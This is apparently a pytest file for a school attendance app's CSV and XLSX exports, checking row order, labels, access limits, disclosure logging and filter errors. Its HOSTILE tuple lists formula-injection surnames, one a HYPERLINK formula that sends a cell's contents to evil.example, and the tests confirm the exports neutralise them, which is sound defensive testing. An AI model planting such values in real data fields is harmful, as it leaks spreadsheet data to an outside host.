"""The unassigned queue, the district's students by chronic absence and the
front office's open cases of its school each export to CSV and XLSX: the
file holds the rows the list shows under the same filters, in its order,
every page of it; no cell runs as a formula; each student in it is logged
once as disclosed; a filter that names nothing refuses the file with the
page's words; and the front office's file is of its own school alone."""
import csv
import datetime
import io
import re
import zipfile

import openpyxl
import pytest

from fieldapp import codes
from fieldapp.models import AccessLog, Case, Student
from fieldapp.timefmt import local_today, school_year_start
from tests import factories
from tests.web.conftest import page_text
from tests.web.test_export_rows import _same_to_the_minute, _xlsx_as_csv
from tests.web.test_jobs import job_id_of, wait_for
from tests.web.test_worklist_pages import mark

# Names a spreadsheet would run, each a student of school A.
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn")

# list -> (who sees it, its page, its export)
LISTS = {"unassigned": ("supervisor", "/supervisor/unassigned", "/supervisor/export/unassigned"),
         "students": ("supervisor", "/supervisor/students", "/supervisor/export/students"),
         "office": ("front_office", "/office", "/office/export")}


def _school_days_back(count):
    """Up to count weekdays of this school year, today's first."""
    first, day, days = school_year_start(local_today()), local_today(), []
    while len(days) < count and day >= first:
        if day.weekday() < 5:
            days.append(day)
        day -= datetime.timedelta(days=1)
    return days


@pytest.fixture
def desk(world):
    """School A with 110 more open cases (more than a page of each list):
    60 nobody holds, the rest the officer's, follow-ups on several days and
    none; the hostile names among them; some students absent enough to be
    in a chronic band."""
    today, absent = local_today(), _school_days_back(12)
    for i in range(110):
        last = HOSTILE[i] if i < len(HOSTILE) else f"Many{i % 7}"
        student = factories.gen_student(world["school_a"], first=f"Kid{i:03d}", last=last)
        case = factories.gen_case(student, world["officer"])
        follow_up = None if i % 4 == 0 else today + datetime.timedelta(days=(i % 9) - 4)
        Case.update(officer=None if i < 60 else world["officer"].id, next_follow_up=follow_up) \
            .where(Case.id == case.id).execute()
        if i % 5 == 0:
            mark(student, *absent[:1 + i % 12])
    Case.update(officer=None).where(Case.id == world["case_b"].id).execute()  # school B's, unassigned too
    return world


def _as_read(value):
    """A cell's text as a spreadsheet reads it: XLSX writes a carriage return
    as _x000D_ (ECMA-376 escapes control characters), which openpyxl leaves."""
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


def _csv(answer):
    assert answer.status_code == 200, page_text(answer)[:500]
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))


def _local_ids_of_file(rows):
    column = rows[0].index("Local id")
    return [row[column] for row in rows[1:]]


def _local_ids_on_pages(client, url):
    """The students the list links to, page after page, in its order, as local ids."""
    ids, number, pages = [], 1, 1
    while number <= pages:  # the pager's rel="next" link, followed to the last page
        answer = client.get(f"{url}{'&' if '?' in url else '?'}page={number}")
        assert answer.status_code == 200, page_text(answer)[:300]
        ids += [int(i) for i in re.findall(r'<td class="lead"><a href="/students/(\d+)"', page_text(answer))]
        if 'rel="next"' in page_text(answer):
            pages += 1
        number += 1
    local = dict(Student.select(Student.id, Student.local_id).where(Student.id.in_(ids)).tuples())
    return [local[i] for i in ids], pages


CASES = [("unassigned", ""), ("unassigned", "stage=monitoring"), ("unassigned", "band=satisfactory"),
         ("students", ""), ("students", "band=chronic"), ("students", "school={school_b}"),
         ("office", ""), ("office", "follow_up=overdue"), ("office", "officer=none"),
         ("office", "officer={officer}&follow_up=week")]


@pytest.mark.parametrize("name, query", CASES)
def test_the_file_holds_the_rows_the_list_shows_in_its_order_every_page(auth, login_as, desk, name, query):
    role, page, export = LISTS[name]
    query = query.format(school_b=desk["school_b"].id, officer=desk["officer"].id)
    login_as(role)
    rows = _csv(auth.post(f"{export}?{query}", data={"format": "csv"}))
    shown, pages = _local_ids_on_pages(auth.client, f"{page}?{query}")
    assert _local_ids_of_file(rows) == shown, (name, query)
    if not query:
        assert pages > 1 and len(shown) > 50, (name, pages)  # more than one page, none cut


def test_the_files_say_labels_not_codes(auth, login_as, desk):
    login_as("supervisor")
    queue = _csv(auth.post("/supervisor/export/unassigned", data={"format": "csv"}))
    header = queue[0]
    first = dict(zip(header, queue[1]))
    assert first["Status"] == "Open" and first["Officer"] == "Unassigned" and first["Stage"] == "Monitoring"
    students = _csv(auth.post("/supervisor/export/students", data={"format": "csv"}))
    bands = {dict(zip(students[0], row))["Chronic absence"] for row in students[1:]}
    assert len(bands) > 1 and bands <= {codes.label("band", code) for code in codes.BANDS}, bands
    assert not bands & set(codes.BANDS)
    login_as("front_office")
    office = _csv(auth.post("/office/export", data={"format": "csv"}))
    officers = {dict(zip(office[0], row))["Officer"] for row in office[1:]}
    assert officers == {"Unassigned", desk["officer"].name}


@pytest.mark.parametrize("name", sorted(LISTS))
def test_no_cell_of_a_hostile_name_runs_and_each_student_is_logged_once(auth, login_as, desk, name, start_worker):
    start_worker("sqlite")
    role, _, export = LISTS[name]
    user = login_as(role)
    rows = _csv(auth.post(export, data={"format": "csv"}))
    column = rows[0].index("Last name")
    lasts = {row[column] for row in rows[1:]}
    assert {"'" + hostile for hostile in HOSTILE} <= lasts and not lasts & set(HOSTILE)
    logged = [line.student_id for line in AccessLog.select().where(
        (AccessLog.action == "export") & (AccessLog.user == user.id))]
    local = dict(Student.select(Student.local_id, Student.id).tuples())
    assert sorted(logged) == sorted(local[i] for i in _local_ids_of_file(rows))  # each once
    job = wait_for(auth.client, job_id_of(auth.post(export, data={"format": "xlsx"})))
    assert job.state == "done", job.reason
    answer = auth.client.get(f"/jobs/{job.id}/spreadsheet")
    assert answer.status_code == 200
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(answer.get_data())).read("xl/worksheets/sheet1.xml").decode()
    sheet = openpyxl.load_workbook(io.BytesIO(answer.get_data())).active
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells if _as_read(c.value) in HOSTILE)
    assert {_as_read(c.value) for c in cells} >= set(HOSTILE)
    assert [_same_to_the_minute([_as_read(v) for v in r]) for r in _xlsx_as_csv(answer)] == \
        [_same_to_the_minute(r) for r in rows]
    again = AccessLog.select().where((AccessLog.action == "export") & (AccessLog.user == user.id))
    assert again.count() == 2 * len(logged)  # the spreadsheet: each student once more


def test_the_front_offices_file_is_of_its_own_school_alone(app, auth, login_as, desk):
    login_as("front_office")
    other = desk["school_b"].id
    rows = _csv(auth.post(f"/office/export?school={other}&schools={other}", data={"format": "csv"}))
    schools = {dict(zip(rows[0], row))["School"] for row in rows[1:]}
    assert schools == {"Lincoln Elementary"} and len(rows) == 1 + 111
    assert desk["student_b"].local_id not in _local_ids_of_file(rows)
    assert not AccessLog.select().where((AccessLog.student == desk["student_b"].id)
                                        & (AccessLog.action == "export")).exists()
    for path in ("/supervisor/export/cases", "/supervisor/export/unassigned", "/supervisor/export/students"):
        refused = auth.post(path, data={"format": "csv"})
        assert refused.status_code == 403 and "may not export district lists" in page_text(refused), path


def test_officers_and_administrators_export_no_district_list(auth, login_as, desk):
    for role in ("officer", "admin"):
        login_as(role)
        for path in ("/supervisor/export/unassigned", "/supervisor/export/students", "/office/export"):
            assert auth.post(path, data={"format": "csv"}).status_code == 403, (role, path)
    login_as("supervisor")
    refused = auth.post("/office/export", data={"format": "csv"})
    assert refused.status_code == 403 and "its front office does" in page_text(refused)
    assert not AccessLog.select().where(AccessLog.action == "export").exists()


def _said(page):
    """The words the box of filters not recognised says of each."""
    box = page[page.index('id="filters-not-recognised"'):]
    return re.findall(r"<li>(.*?)</li>", box[:box.index("</div>")], re.S)


NAMING_NOTHING = [("unassigned", "school=999999"), ("unassigned", "flag=zz"), ("unassigned", "band=worst"),
                  ("students", "school=999999"), ("students", "band=worst"),
                  ("office", "officer=999999"), ("office", "stage=zz"), ("office", "follow_up=someday"),
                  ("office", "officer={other_schools_officer}")]


@pytest.mark.parametrize("name, query", NAMING_NOTHING)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filter_naming_nothing_refuses_the_file_with_the_pages_words(auth, login_as, world, name, query, fmt):
    role, page, export = LISTS[name]
    query = query.format(other_schools_officer=world["other_officer"].id)  # works school B alone
    login_as(role)
    shown = auth.client.get(f"{page}?{query}")
    refused = auth.post(f"{export}?{query}", data={"format": fmt})
    assert shown.status_code == 422 and refused.status_code == 422
    assert _said(page_text(refused)) == _said(page_text(shown)) != []
    assert "Not exported" in page_text(refused)
    assert f'href="{page}?{query}"' in page_text(refused)  # back to the list as it was
    assert not AccessLog.select().where(AccessLog.action == "export").exists()


def test_each_list_offers_its_export_to_whom_it_may_make_it(auth, login_as, world):
    login_as("supervisor")
    for page, export in (("/supervisor/unassigned?stage=monitoring", "/supervisor/export/unassigned?stage=monitoring"),
                         ("/supervisor/students?band=chronic", "/supervisor/export/students?band=chronic")):
        text = page_text(auth.client.get(page))
        form = re.search(r'<form[^>]*action="([^"]*)"[^>]*class="export row">(.*?)</form>', text, re.S)
        assert form and form.group(1) == export, page
        assert "Export CSV" in form.group(2) and "Export XLSX" in form.group(2)
    assert 'class="export row"' not in page_text(auth.client.get("/supervisor/students?band=worst"))
    login_as("admin")  # reads the students list, exports nothing
    assert 'class="export row"' not in page_text(auth.client.get("/supervisor/students"))
    login_as("front_office")
    text = page_text(auth.client.get("/office?follow_up=overdue"))
    assert 'action="/office/export?follow_up=overdue"' in text and "Export XLSX" in text
